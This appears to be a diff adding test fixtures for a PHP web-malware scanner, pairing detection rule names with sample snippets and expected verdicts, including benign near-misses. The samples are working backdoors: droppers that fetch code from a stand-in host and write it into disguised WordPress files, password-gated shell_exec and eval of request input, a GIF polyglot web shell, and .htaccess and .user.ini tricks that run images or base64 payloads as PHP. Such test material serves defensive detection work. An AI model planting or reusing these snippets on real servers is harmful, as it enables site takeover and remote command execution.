@@ -4643,6 +4643,438 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         True,
     ),  # e/t05.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $resp = wp_remote_get('http://files.example.biz/h.txt'); if (!is_wp_error($resp)) { file_put_contents(ABSPATH . WPINC . '/class-wp-http-cache.php', $resp['body']); }"
+        ),
+        True,
+    ),  # f/f01.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $resp = wp_remote_get('http://files.example.biz/h.txt'); if (!is_wp_error($resp)) { file_put_contents(ABSPATH . WPINC . '/class-wp-http-cache.php', $resp['body']); }"
+        ),
+        True,
+    ),  # f/f01.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $resp = wp_remote_get('http://files.example.biz/h.txt'); if (!is_wp_error($resp)) { file_put_contents(ABSPATH . WPINC . '/class-wp-http-cache.php', $resp['body']); }"
+        ),
+        True,
+    ),  # f/f01.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$u = 'http://files.example.biz/k.txt';\n$h = curl_init();\ncurl_setopt($h, CURLOPT_URL, $u);\ncurl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n$out = curl_exec($h);\nfile_put_contents('wp-k.php', $out);\n"
+        ),
+        True,
+    ),  # f/f02.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$u = 'http://files.example.biz/k.txt';\n$h = curl_init();\ncurl_setopt($h, CURLOPT_URL, $u);\ncurl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n$out = curl_exec($h);\nfile_put_contents('wp-k.php', $out);\n"
+        ),
+        True,
+    ),  # f/f02.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$u = 'http://files.example.biz/k.txt';\n$h = curl_init();\ncurl_setopt($h, CURLOPT_URL, $u);\ncurl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n$out = curl_exec($h);\nfile_put_contents('wp-k.php', $out);\n"
+        ),
+        True,
+    ),  # f/f02.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain("<?php fwrite(fopen('cache.php', 'w'), file_get_contents('http://files.example.biz/x'));"),
+        True,
+    ),  # f/f03.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded("<?php fwrite(fopen('cache.php', 'w'), file_get_contents('http://files.example.biz/x'));"),
+        True,
+    ),  # f/f03.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded("<?php fwrite(fopen('cache.php', 'w'), file_get_contents('http://files.example.biz/x'));"),
+        True,
+    ),  # f/f03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $c = join('', file('https://files.example.biz/t.txt')); $n = dirname(__FILE__) . '/.' . 'sys.php'; $fp = fopen($n, 'w'); fwrite($fp, $c); fclose($fp);"
+        ),
+        True,
+    ),  # f/f04.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $c = join('', file('https://files.example.biz/t.txt')); $n = dirname(__FILE__) . '/.' . 'sys.php'; $fp = fopen($n, 'w'); fwrite($fp, $c); fclose($fp);"
+        ),
+        True,
+    ),  # f/f04.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $c = join('', file('https://files.example.biz/t.txt')); $n = dirname(__FILE__) . '/.' . 'sys.php'; $fp = fopen($n, 'w'); fwrite($fp, $c); fclose($fp);"
+        ),
+        True,
+    ),  # f/f04.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php if (!file_exists('x.php')) { $src = @file_get_contents('http://files.example.biz/b'); if (!$src) $src = shell_exec('curl -s http://files.example.biz/b'); @file_put_contents('x.php', $src); }"
+        ),
+        True,
+    ),  # f/f05.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php if (!file_exists('x.php')) { $src = @file_get_contents('http://files.example.biz/b'); if (!$src) $src = shell_exec('curl -s http://files.example.biz/b'); @file_put_contents('x.php', $src); }"
+        ),
+        True,
+    ),  # f/f05.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php if (!file_exists('x.php')) { $src = @file_get_contents('http://files.example.biz/b'); if (!$src) $src = shell_exec('curl -s http://files.example.biz/b'); @file_put_contents('x.php', $src); }"
+        ),
+        True,
+    ),  # f/f05.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $_REQUEST['n'] && ($h = fopen($_REQUEST['n'], 'w')) && fwrite($h, base64_decode($_REQUEST['d']));"
+        ),
+        True,
+    ),  # f/f06.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $_REQUEST['n'] && ($h = fopen($_REQUEST['n'], 'w')) && fwrite($h, base64_decode($_REQUEST['d']));"
+        ),
+        True,
+    ),  # f/f06.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $_REQUEST['n'] && ($h = fopen($_REQUEST['n'], 'w')) && fwrite($h, base64_decode($_REQUEST['d']));"
+        ),
+        True,
+    ),  # f/f06.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $p = $_GET['p']; $d = file_get_contents('php://input'); $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp);"
+        ),
+        True,
+    ),  # f/f07.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $p = $_GET['p']; $d = file_get_contents('php://input'); $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp);"
+        ),
+        True,
+    ),  # f/f07.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $p = $_GET['p']; $d = file_get_contents('php://input'); $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp);"
+        ),
+        True,
+    ),  # f/f07.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $file = $_POST['file']; $content = $_POST['content']; if (file_put_contents($file, $content) !== false) echo 'Saved';"
+        ),
+        True,
+    ),  # f/f08.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $file = $_POST['file']; $content = $_POST['content']; if (file_put_contents($file, $content) !== false) echo 'Saved';"
+        ),
+        True,
+    ),  # f/f08.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $file = $_POST['file']; $content = $_POST['content']; if (file_put_contents($file, $content) !== false) echo 'Saved';"
+        ),
+        True,
+    ),  # f/f08.php embedded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php $x = base64_decode($_REQUEST['x']); $f = '/tmp/' . uniqid(); file_put_contents($f, $x); include_once($f); @unlink($f);"
+        ),
+        True,
+    ),  # f/f09.php
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php $x = base64_decode($_REQUEST['x']); $f = '/tmp/' . uniqid(); file_put_contents($f, $x); include_once($f); @unlink($f);"
+        ),
+        True,
+    ),  # f/f09.php padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php $x = base64_decode($_REQUEST['x']); $f = '/tmp/' . uniqid(); file_put_contents($f, $x); include_once($f); @unlink($f);"
+        ),
+        True,
+    ),  # f/f09.php embedded
+    (
+        "SPAMGEAR_SHELLUI_BareUploader",
+        plain(
+            "<?php $up = move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']) ? 'ok' : 'fail'; echo $up;"
+        ),
+        True,
+    ),  # f/f11.php
+    (
+        "SPAMGEAR_SHELLUI_BareUploader",
+        padded(
+            "<?php $up = move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']) ? 'ok' : 'fail'; echo $up;"
+        ),
+        True,
+    ),  # f/f11.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        plain(
+            "<?php $dir = $_SERVER['HTTP_X_DIR'] ?? '.'; move_uploaded_file($_FILES['f']['tmp_name'], \"$dir/\" . $_FILES['f']['name']);"
+        ),
+        True,
+    ),  # f/f12.php
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        padded(
+            "<?php $dir = $_SERVER['HTTP_X_DIR'] ?? '.'; move_uploaded_file($_FILES['f']['tmp_name'], \"$dir/\" . $_FILES['f']['name']);"
+        ),
+        True,
+    ),  # f/f12.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadToRequestPath",
+        embedded(
+            "<?php $dir = $_SERVER['HTTP_X_DIR'] ?? '.'; move_uploaded_file($_FILES['f']['tmp_name'], \"$dir/\" . $_FILES['f']['name']);"
+        ),
+        True,
+    ),  # f/f12.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain("<?php copy($_FILES['f']['tmp_name'], \"./\" . $_FILES['f']['name']); echo 'k';"),
+        True,
+    ),  # f/f13.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded("<?php copy($_FILES['f']['tmp_name'], \"./\" . $_FILES['f']['name']); echo 'k';"),
+        True,
+    ),  # f/f13.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        plain("<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x.phtml');"),
+        True,
+    ),  # f/f14.php
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        padded("<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x.phtml');"),
+        True,
+    ),  # f/f14.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        embedded("<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x.phtml');"),
+        True,
+    ),  # f/f14.php embedded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php if (md5($_POST['p']) === \"B59C67BF196A4758191E42F76670CEBA\") { echo shell_exec($_POST['c']); }"
+        ),
+        True,
+    ),  # f/f15.php
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php if (md5($_POST['p']) === \"B59C67BF196A4758191E42F76670CEBA\") { echo shell_exec($_POST['c']); }"
+        ),
+        True,
+    ),  # f/f15.php padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php if (md5($_POST['p']) === \"B59C67BF196A4758191E42F76670CEBA\") { echo shell_exec($_POST['c']); }"
+        ),
+        True,
+    ),  # f/f15.php embedded
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        plain(
+            "<?php if (strcmp(md5($_GET['k']), '827ccb0eea8a706c4c34a16891f84e7b') == 0) array_map($_GET['f'], [$_GET['a']]);"
+        ),
+        True,
+    ),  # f/f16.php
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        padded(
+            "<?php if (strcmp(md5($_GET['k']), '827ccb0eea8a706c4c34a16891f84e7b') == 0) array_map($_GET['f'], [$_GET['a']]);"
+        ),
+        True,
+    ),  # f/f16.php padded
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        embedded(
+            "<?php if (strcmp(md5($_GET['k']), '827ccb0eea8a706c4c34a16891f84e7b') == 0) array_map($_GET['f'], [$_GET['a']]);"
+        ),
+        True,
+    ),  # f/f16.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php if (crc32($_SERVER['HTTP_X_SIG']) === 2837291) { @assert(base64_decode($_SERVER['HTTP_X_DATA'])); }"
+        ),
+        True,
+    ),  # f/f17.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php if (crc32($_SERVER['HTTP_X_SIG']) === 2837291) { @assert(base64_decode($_SERVER['HTTP_X_DATA'])); }"
+        ),
+        True,
+    ),  # f/f17.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php if (crc32($_SERVER['HTTP_X_SIG']) === 2837291) { @assert(base64_decode($_SERVER['HTTP_X_DATA'])); }"
+        ),
+        True,
+    ),  # f/f17.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php switch ($_SERVER['HTTP_USER_AGENT']) { case 'XBot/1.0': eval($_POST['x']); break; default: break; }"
+        ),
+        True,
+    ),  # f/f18.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php switch ($_SERVER['HTTP_USER_AGENT']) { case 'XBot/1.0': eval($_POST['x']); break; default: break; }"
+        ),
+        True,
+    ),  # f/f18.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php switch ($_SERVER['HTTP_USER_AGENT']) { case 'XBot/1.0': eval($_POST['x']); break; default: break; }"
+        ),
+        True,
+    ),  # f/f18.php embedded
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        plain(
+            "<?php if (isset($_COOKIE['lang']) && strlen($_COOKIE['lang']) == 32) include base64_decode($_COOKIE['p']);"
+        ),
+        True,
+    ),  # f/f19.php
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        padded(
+            "<?php if (isset($_COOKIE['lang']) && strlen($_COOKIE['lang']) == 32) include base64_decode($_COOKIE['p']);"
+        ),
+        True,
+    ),  # f/f19.php padded
+    (
+        "SPAMGEAR_INPUT_IncludeOfInput",
+        embedded(
+            "<?php if (isset($_COOKIE['lang']) && strlen($_COOKIE['lang']) == 32) include base64_decode($_COOKIE['p']);"
+        ),
+        True,
+    ),  # f/f19.php embedded
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        plain(
+            "<?php\n$passhash = '827ccb0eea8a706c4c34a16891f84e7b';\nif (!isset($_COOKIE['auth']) || md5($_COOKIE['auth']) !== $passhash) { http_response_code(404); exit; }\n$cmd = $_POST['cmd'] ?? 'id';\n$out = array();\nexec($cmd . ' 2>&1', $out);\necho implode(PHP_EOL, $out);\n"
+        ),
+        True,
+    ),  # f/f20.php
+    (
+        "SPAMGEAR_UI_CommandVarConsole",
+        padded(
+            "<?php\n$passhash = '827ccb0eea8a706c4c34a16891f84e7b';\nif (!isset($_COOKIE['auth']) || md5($_COOKIE['auth']) !== $passhash) { http_response_code(404); exit; }\n$cmd = $_POST['cmd'] ?? 'id';\n$out = array();\nexec($cmd . ' 2>&1', $out);\necho implode(PHP_EOL, $out);\n"
+        ),
+        True,
+    ),  # f/f20.php padded
+    (
+        "SPAMGEAR_UI_CommandVarConsole",
+        embedded(
+            "<?php\n$passhash = '827ccb0eea8a706c4c34a16891f84e7b';\nif (!isset($_COOKIE['auth']) || md5($_COOKIE['auth']) !== $passhash) { http_response_code(404); exit; }\n$cmd = $_POST['cmd'] ?? 'id';\n$out = array();\nexec($cmd . ' 2>&1', $out);\necho implode(PHP_EOL, $out);\n"
+        ),
+        True,
+    ),  # f/f20.php embedded
+    ("SPAMGEAR_INPUT_ShellOfInput", b"GIF89a\x01\x00\x01\x00<? system($_GET[c]); ?>", True),  # f/f21.gif
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<FilesMatch "^.*\\.(jpg|png)$">\n  SetHandler application/x-httpd-php7.4\n</FilesMatch>\n'),
+        True,
+    ),  # f/f23.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded(
+            '<FilesMatch "^.*\\.(jpg|png)$">\n  SetHandler application/x-httpd-php7.4\n</FilesMatch>\n'
+        ),
+        True,
+    ),  # f/f23.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddHandler application/x-httpd-php81 .jpg\n"),
+        True,
+    ),  # f/f24.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddHandler application/x-httpd-php81 .jpg\n"),
+        True,
+    ),  # f/f24.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddType application/x-httpd-php .jpg .jpeg .png .gif\n"),
+        True,
+    ),  # f/f25.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddType application/x-httpd-php .jpg .jpeg .png .gif\n"),
+        True,
+    ),  # f/f25.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('php_value auto_prepend_file "php://input"\n'),
+        True,
+    ),  # f/f26.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('php_value auto_prepend_file "php://input"\n'),
+        True,
+    ),  # f/f26.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_prepend_file="data:;base64,PD9waHAgZXZhbCgkX1BPU1RbJ3AnXSk7ID8+"\n'),
+        True,
+    ),  # f/f27.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_prepend_file="data:;base64,PD9waHAgZXZhbCgkX1BPU1RbJ3AnXSk7ID8+"\n'),
+        True,
+    ),  # f/f27.user.ini padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain("auto_prepend_file = /home/u/public_html/wp-admin/images/w-logo-blue.png\n"),
+        True,
+    ),  # f/f28.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded("auto_prepend_file = /home/u/public_html/wp-admin/images/w-logo-blue.png\n"),
+        True,
+    ),  # f/f28.user.ini padded
     # near-misses: legit code beside the shapes above
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
@@ -5307,6 +5739,48 @@ CASES: list[tuple[str, bytes, bool]] = [
         "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
         embedded(
             "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php\n$phpStr = LightnCandy::compile($template);\nfile_put_contents('render.php', '<?php ' . $phpStr . '?>');\n$renderer = include('render.php');\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php\n$phpStr = LightnCandy::compile($template);\nfile_put_contents('render.php', '<?php ' . $phpStr . '?>');\n$renderer = include('render.php');\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php\n$phpStr = LightnCandy::compile($template);\nfile_put_contents('render.php', '<?php ' . $phpStr . '?>');\n$renderer = include('render.php');\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php\n$id = (int) $_GET['id'];\n$fp = fopen($cachefile, 'w') or die('cache');\nfwrite($fp, render($id));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php\n$id = (int) $_GET['id'];\n$fp = fopen($cachefile, 'w') or die('cache');\nfwrite($fp, render($id));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php\n$id = (int) $_GET['id'];\n$fp = fopen($cachefile, 'w') or die('cache');\nfwrite($fp, render($id));\n"
         ),
         False,
     ),
